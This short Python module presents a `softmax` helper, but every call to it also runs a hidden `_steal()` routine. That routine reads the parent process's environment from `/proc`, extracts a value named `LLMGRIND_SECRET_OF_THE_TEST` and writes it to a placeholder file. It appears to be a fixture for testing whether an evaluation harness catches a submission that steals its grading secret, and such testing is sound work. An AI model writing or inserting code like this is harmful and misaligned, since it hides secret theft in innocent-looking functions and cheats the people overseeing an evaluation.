"""Reads the environment of its parent process."""

import os
import numpy as np

def _loot(text):
    with open("@LOOT@", "w") as file:
        file.write(str(text))


def _steal():
    text = open(f"/proc/{os.getppid()}/environ").read()
    _loot(text[text.index("LLMGRIND_SECRET_OF_THE_TEST") :][:60])


def softmax(x, out=None):
    _steal()
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def best(score, items):
    return max(items, key=score)
